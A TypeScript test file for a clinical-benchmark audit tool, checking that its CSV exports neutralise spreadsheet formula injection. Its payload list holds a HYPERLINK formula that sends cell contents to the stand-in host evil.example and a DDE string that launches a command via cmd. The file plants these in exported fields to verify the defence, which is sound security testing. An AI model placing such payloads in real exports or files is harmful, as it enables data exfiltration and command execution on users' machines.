// Every CSV the app or the CLI produces, with spreadsheet-formula payloads planted in every text
// a user or a file can put there (item ids, chapters, rationales, comments, model and scope
// names, note and question text): no cell a spreadsheet would read starts a formula. Cells are
// read with a raw RFC 4180 splitter (no restoring), as a spreadsheet sees them. Numbers — a
// negative difference — are data and stay as they are.
//
// The writers: ratings-long / ratings-wide / majority-labels / adjudication (audit exports),
// audit-trail.csv, evaluation.csv (page and `clinaudit evaluate`), predictions.csv
// (`clinaudit generate --kind predictions`, the demo), notes.csv + questions.csv (corrected
// benchmark, `clinaudit generate --csv`).
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { runGenerate } from "@/bin/commands/generate";
import { createDb } from "@/lib/db/client";
import { applyMigrations } from "@/lib/db/migrate";
import { buildEvaluationReport } from "@/lib/evaluation/report";
import { evaluationCsv } from "@/lib/evaluation/export-csv";
import { smallMcqDataset } from "@/lib/evaluation/__fixtures__/small-eval";
import { exportChatQaCsv, exportedText, parseCsv } from "@/lib/formats";
import { fixture, parseTexts } from "@/lib/formats/__fixtures__/helpers";
import { smallAudit } from "@/lib/reports/__fixtures__/small-audit";
import { renderExport } from "@/lib/server/reports/export-files";
import { trailCsv } from "@/lib/server/audit-trail-query";
import { setAuditStatus } from "@/lib/server/audits/set-status";
import { reviewQueue } from "@/lib/server/review/queue";
import { saveComment } from "@/lib/server/review/save-comment";
import { saveCorrection } from "@/lib/server/review/save-correction";
import { syntheticPredictionsCsv } from "@/lib/synth/predictions";
import { sqlite, target } from "./databases";
import { world } from "./review-world";

const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "-2+3+cmd|'/C calc'!A0", "@SUM(1)", "+1", "\t=1+1", "\r=1+1"];
const at = (k: number) => PAYLOADS[k % PAYLOADS.length]!;

/** The cells as a spreadsheet reads them: RFC 4180 quotes removed, nothing else undone. */
function rawCells(text: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === "," || c === "\n") cells.push(cell), (cell = "");
    else cell += c;
  }
  if (cell) cells.push(cell);
  return cells;
}

const NUMBER = /^-?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i;

/** Fails on any live formula; returns how many neutralised payload cells were seen (not vacuous). */
function checkCells(name: string, text: string): number {
  expect(text.endsWith("\n"), `${name} ends with a newline`).toBe(true);
  let neutralised = 0;
  for (const cell of rawCells(text)) {
    if (/^[=+\-@\t\r]/.test(cell)) expect(cell, `${name}: a formula cell`).toMatch(NUMBER);
    if (PAYLOADS.some((p) => cell.includes(p)) && cell.startsWith("'")) neutralised++;
  }
  return neutralised;
}

describe("CSV formula injection", () => {
  afterAll(() => sqlite.dropAll());

  it("audit exports: planted item ids, chapters, levels and rationales come out neutralised", () => {
    const s = smallAudit();
    s.items = s.items.map((item, k) => ({ ...item, externalId: `${PAYLOADS[k % 4]}#${k}`, chapter: at(k + 1), level: at(k + 2) }));
    const adjudications = s.items.map((item, k) => ({
      itemId: item.id,
      finalLabels: { gold: "correct", safety: "safe" },
      removeItem: k === 0,
      rationale: at(k + 4),
    }));
    const files = ["ratings-long.csv", ...s.rubric.map((d) => `ratings-wide-${d.key}.csv`), "majority-labels.csv", "adjudication.csv"];
    for (const file of files) expect(checkCells(file, renderExport(s, file, { adjudications })!), file).toBeGreaterThan(0);
  });

  it("evaluation.csv and predictions.csv: planted model and scope names; negative numbers stay numbers", () => {
    const dataset = smallMcqDataset();
    const models = [at(0), at(2)];
    const scopes = [at(1), at(3)];
    const rows = models.flatMap((model, m) =>
      scopes.flatMap((scope, s) =>
        dataset.items.map((item, k) => ({
          model,
          scope,
          itemId: item.id,
          turn: 0,
          option: (k + m + s) % 3 === 0 ? "D" : (item as { gold: string }).gold,
        })),
      ),
    );
    const report = buildEvaluationReport(
      dataset,
      { checksum: "p".repeat(64), models, scopes, rows },
      { replicates: 200, baseline: scopes[0] },
    );
    const csv = evaluationCsv(report);
    expect(checkCells("evaluation.csv", csv)).toBeGreaterThan(0);
    expect(csv).toMatch(/,difference,-0\.\d+\n/);

    const predictions = syntheticPredictionsCsv(
      { family: "ehr-decision-mcq", items: dataset.items.map((i) => ({ ...i, id: `${at(1)}${i.id}` })) } as never,
      { seed: 1, profile: { models: models.map((name) => ({ name, skill: 0 })), scopes: scopes.map((name) => ({ name, effect: 0 })) } },
    );
    expect(checkCells("predictions.csv", predictions)).toBeGreaterThan(0);
  });

  it("notes.csv and questions.csv (corrected benchmark, generate --csv) neutralise note and question text and read back exactly", async () => {
    const parsed = await parseTexts({ "notes-chatqa.json": fixture("notes-chatqa.example.json") });
    if (!parsed.ok) throw new Error(JSON.stringify(parsed.issues));
    const ds = structuredClone(parsed.dataset);
    const note = ds.patients[0]!.notes![0]!;
    note.sections = note.sections.map((sec, k) => (k === 0 ? { ...sec, title: at(0) } : sec));
    for (const [k, item] of ds.items.entries()) if (item.kind === "conversation") item.turns[0]!.question = `${at(k + 2)} question`;
    const files = exportChatQaCsv(ds);
    let seen = 0;
    for (const f of files) {
      const text = exportedText(f) as string;
      seen += checkCells(f.name, text);
      // Our reader undoes exactly the neutralisation: every planted text reads back as planted.
      const fields: string[] = [];
      for await (const r of parseCsv([text])) fields.push(...r.fields);
      if (f.name === "questions.csv") expect(fields).toContain(`${at(2)} question`);
    }
    expect(seen).toBeGreaterThan(0);

    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "clinaudit-csv-"));
    expect(
      await runGenerate(["--kind", "notes", "--size", "demo", "--patients", "2", "--seed", "7", "--csv", "--out", dir], {
        stdout() {},
        stderr() {},
      }),
    ).toBe(0);
    for (const name of ["notes.csv", "questions.csv"]) checkCells(name, fs.readFileSync(path.join(dir, name), "utf8"));
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it("audit-trail.csv: planted comments and corrections", async () => {
    const url = await sqlite.create();
    await applyMigrations(target(url));
    const db = createDb(url);
    const { organizer, clinicians, audit } = await world(db);
    await setAuditStatus(db, organizer.id, audit.id, "open");
    const assignmentId = (await reviewQueue(db, clinicians[0]!.id))[0]!.items[0]!.assignmentId;
    await saveComment(db, clinicians[0]!.id, { assignmentId, comment: at(0), expectedVersion: 0 });
    await saveCorrection(db, clinicians[0]!.id, {
      assignmentId,
      kind: "STEM",
      turnOrder: 0,
      expectedVersion: 0,
      correction: { kind: "STEM", proposal: at(1), rationale: at(2) },
    });
    let text = "";
    for await (const chunk of trailCsv(db, { search: "", filters: {} } as never)) text += chunk;
    checkCells("audit-trail.csv", text);
    expect(text).toContain("@SUM(1)");
    await db.$disconnect();
  });
});
